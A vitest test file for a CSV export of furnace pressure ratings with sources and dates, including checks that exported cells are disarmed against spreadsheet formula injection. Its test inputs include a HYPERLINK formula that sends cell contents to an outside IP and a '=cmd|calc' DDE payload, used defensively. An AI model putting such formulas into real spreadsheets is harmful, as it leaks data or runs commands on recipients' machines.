import fc from 'fast-check'
import { strFromU8, unzipSync } from 'fflate'
import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { recordKinds } from '@/lib/records/registry'
import { csvOf } from '@/lib/server/exchange/csv'
import { exportTables } from '@/lib/server/exchange/exportTables'
import { openSnapshot } from '@/lib/server/exchange/snapshot'
import { store } from '@/lib/server/people/store'
import { noteHeld } from '@/lib/server/photos/pictureTable'
import { fill, fillDispute, noon, record, type Server, say, withServers } from './twoServers'

const { newServer } = withServers()

function tablesOf({ folder }: Server): Map<string, string> {
  const snapshot = openSnapshot(recordKinds, folder)
  try {
    const zip = Buffer.concat([...exportTables(snapshot, recordKinds, noon)])
    return new Map(Object.entries(unzipSync(zip)).map(([name, bytes]) => [name, strFromU8(bytes)]))
  } finally {
    snapshot.close()
  }
}

const rowsIn = (csv: string): Record<string, string>[] =>
  Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true }).data

test('csvOf(rows) is CSV by RFC 4180: commas, CR LF, quotes doubled inside quotes (its section 2, rules 1 to 7)', () => {
  expect(
    csvOf([
      ['aaa', 'b\r\nbb', 'ccc'],
      ['zzz', 'y"y', 'x,x'],
    ]),
  ).toBe('aaa,"b\r\nbb",ccc\r\nzzz,"y""y","x,x"\r\n')
})

test('csvOf(rows) keeps a negative number a number, also one that is text, and disarms every formula', () => {
  expect(csvOf([[-0.65, '-0.65', '-,65', '+1.5']])).toBe('-0.65,-0.65,"-,65",+1.5\r\n')
  const armed = [
    '=1+1',
    '=HYPERLINK("http://198.51.100.7/?"&A1,"look")',
    '+1+1',
    '-1+1',
    '-0.65 in. w.c.',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '＝1+1',
    '－1+1',
  ]
  for (const text of armed) {
    const [[cell]] = Papa.parse<string[]>(csvOf([[text]])).data as [[string]]
    expect(cell).toBe(`'${text}`)
  }
})

test('csvOf(rows) read back gives the same texts, save for the apostrophe', () => {
  const text = fc.string({ unit: 'binary' })
  const table = fc
    .integer({ min: 2, max: 5 })
    .chain((width) => fc.array(fc.array(text, { minLength: width, maxLength: width }), { minLength: 1 }))
  fc.assert(
    fc.property(table, (rows) => {
      const { data } = Papa.parse<string[]>(csvOf(rows), { newline: '\r\n', delimiter: ',' })
      const back = data.slice(0, -1).map((row) => row.map((cell) => cell))
      expect(back).toHaveLength(rows.length)
      for (const [at, row] of rows.entries())
        for (const [place, cell] of row.entries()) expect([cell, `'${cell}`]).toContain(back[at]![place])
    }),
  )
})

test('exportTables(snapshot) has a table for every kind of record, with every record of it', async () => {
  const old = await newServer()
  const said = await fill(old)
  const tables = tablesOf(old)
  for (const { kind } of Object.values(recordKinds)) {
    const rows = rowsIn(tables.get(`${kind.replaceAll(' ', '-')}.csv`)!)
    const wanted = said.filter((each) => each.kind === kind).map(({ id }) => id)
    expect(rows.map(({ id }) => id).filter((id) => wanted.includes(id!))).toEqual(wanted)
  }
  expect(tables.get('READ ME.txt')).toContain('RFC 4180')
})

test('exportTables(snapshot) gives no rating without its level, its sources and their dates', async () => {
  const old = await newServer()
  await fill(old)
  await fillDispute(old)
  const tables = tablesOf(old)
  const ratings = rowsIn(tables.get('ratings.csv')!)
  const numbers = ratings.filter((row) => row['pascals [Pa]'] !== '')
  expect(numbers.length).toBeGreaterThan(0)
  for (const { level, sources, dates } of numbers) {
    expect(level).toMatch(/^(Verified|Supported|Unverified|In dispute)$/)
    expect(sources).not.toBe('')
    expect(dates).toMatch(/^\d{4}-\d\d-\d\d/)
  }
  for (const table of ['report.csv', 'settlement.csv']) {
    const rows = rowsIn(tables.get(table)!)
    expect(rows.length).toBeGreaterThan(0)
    for (const row of rows)
      expect([row['number.source'], row['number.date'], row['number.standing']]).not.toContain('')
    expect(Object.keys(rows[0]!)).toContain('pascals [Pa]')
  }
})

test('exportTables(snapshot) gives no other value without its sources and their dates', async () => {
  const old = await newServer()
  await fillDispute(old)
  const [rating] = rowsIn(tablesOf(old).get('ratings.csv')!)
  expect(rating).toMatchObject({
    level: 'In dispute',
    'pascals [Pa]': '150',
    'otherValues [Pa]':
      '162 (Distributor, Hallam Supply, ref. T-1, 2024-03-01; Maker’s literature, older, ZQ 3, page 7, 2019-05-06)',
  })
})

test('exportTables(snapshot) names document, page, organisation and reference, and what each source holds for', async () => {
  const old = await newServer()
  await fillDispute(old)
  expect(rowsIn(tablesOf(old).get('ratings.csv')!)[0]).toMatchObject({
    sources:
      'Maker’s literature, current, ZQ 12, page 7 | Factory technical support, Orrinmoor line, ref. T-1',
    dates: '2025-02-03 | 2025-01-02',
    elevation: 'Any elevation | Any elevation',
    revision: 'any revision | any revision',
    serial: 'any serial | any serial',
  })
})

test('exportTables(snapshot) gives a report its own source and date, never another’s, and what its number stands at', async () => {
  const old = await newServer()
  await fillDispute(old, [{ source: 'remembered', saidOn: '2024-06-07' }])
  const rows = rowsIn(tablesOf(old).get('report.csv')!)
  expect(rows.map((row) => [row['number.source'], row['number.date'], row['number.standing']])).toEqual([
    ['Maker’s literature, current, ZQ 12, page 7', '2025-02-03', 'In dispute'],
    ['Factory technical support, Orrinmoor line, ref. T-1', '2025-01-02', 'In dispute'],
    ['Distributor, Hallam Supply, ref. T-1', '2024-03-01', 'In dispute'],
    ['Maker’s literature, older, ZQ 3, page 7', '2019-05-06', 'In dispute'],
    ['Hand-written or remembered', '2024-06-07', 'A lead, not counted'],
  ])
})

test.each([
  ['elevation', { elevationBand: { toMetres: 1200 } }],
  ['serial', { serialRange: { from: 'K7', to: 'K7' } }],
])(
  'exportTables(snapshot) gives no number that depends on the %s: it says what is needed',
  async (what, holds) => {
    const old = await newServer()
    const page = { kind: 'document', name: 'ZQ 14', page: '3' }
    await fillDispute(old, [
      { action: 'opens', source: 'current literature', saidOn: '2025-02-03', proof: page, ...holds },
    ])
    const tables = tablesOf(old)
    const opens = rowsIn(tables.get('ratings.csv')!).find(({ action }) => action === 'opens')!
    const { maker, range, models, position, action, positionId, ...rest } = opens
    expect([maker, range, models, position, action]).not.toContain('')
    expect(positionId).not.toBe('')
    expect(Object.entries(rest).filter(([, cell]) => cell !== '')).toEqual([['needs', what]])
    expect(rowsIn(tables.get('report.csv')!).at(-1)).toMatchObject({ 'number.standing': `Needs the ${what}` })
  },
)

test('exportTables(snapshot) says for what a rating is in dispute, also where it is not in dispute everywhere', async () => {
  const old = await newServer()
  const page = { kind: 'document', name: 'ZQ 14', page: '3' }
  const opens = { action: 'opens', source: 'current literature', proof: page }
  await fillDispute(old, [
    { ...opens, pascals: 90 },
    { ...opens, pascals: 70, source: 'data plate', elevationBand: { fromMetres: 1500 } },
    { ...opens, action: 'not stated', pascals: 110 },
  ])
  const rows = rowsIn(tablesOf(old).get('ratings.csv')!)
  expect(
    rows.map(({ action, level, needs, ...row }) => [action, level, needs, row['in dispute for']]),
  ).toEqual([
    ['closes', 'In dispute', '', 'a furnace of which nothing more is known | elevation 4,921 ft (1,500 m)'],
    ['opens', '', 'elevation', 'elevation 4,921 ft (1,500 m)'],
    ['not stated', expect.stringMatching(/ed$/), '', ''],
  ])
})

test('exportTables(snapshot) disarms what people typed, keeps numbers as numbers and shows what was withheld', async () => {
  const old = await newServer()
  await say(old, [
    record(old.managerId, 'maker', { name: '=cmd|calc', note: '+44 20 7946' }),
    record(old.managerId, 'furnace', {
      siteLabel: 'é “Mill”',
      model: 'ZQ',
      fuel: 'either',
      elevationMetres: -3,
    }),
  ])
  const tables = tablesOf(old)
  expect(tables.get('maker.csv')).toContain(`,"'=cmd|calc","'+44 20 7946"\r\n`)
  expect(rowsIn(tables.get('furnace.csv')!)[0]).toMatchObject({
    siteLabel: 'é “Mill”',
    'elevationMetres [m]': '-3',
  })
  const other = await newServer()
  await fill(other)
  const withheld = rowsIn(tablesOf(other).get('furnace.csv')!)[0]!
  expect([withheld.siteLabel, withheld['withheld.fields']]).toEqual(['[withheld]', 'siteLabel | note'])
})

test('a photo is proof in what goes out as it is on a device: while its picture is held', async () => {
  const { folder } = await newServer()
  const heldIn = (): ReadonlySet<string> => {
    const snapshot = openSnapshot(recordKinds, folder)
    try {
      return snapshot.file().picturesHeld
    } finally {
      snapshot.close()
    }
  }
  expect(heldIn()).toEqual(new Set())
  const sha256 = 'ab'.repeat(32)
  noteHeld(
    store(folder).database,
    { sha256, storedSha256: sha256, mediaType: 'image/png', width: 8, height: 8, bytes: 70 },
    noon,
  )
  expect(heldIn()).toEqual(new Set([sha256]))
})
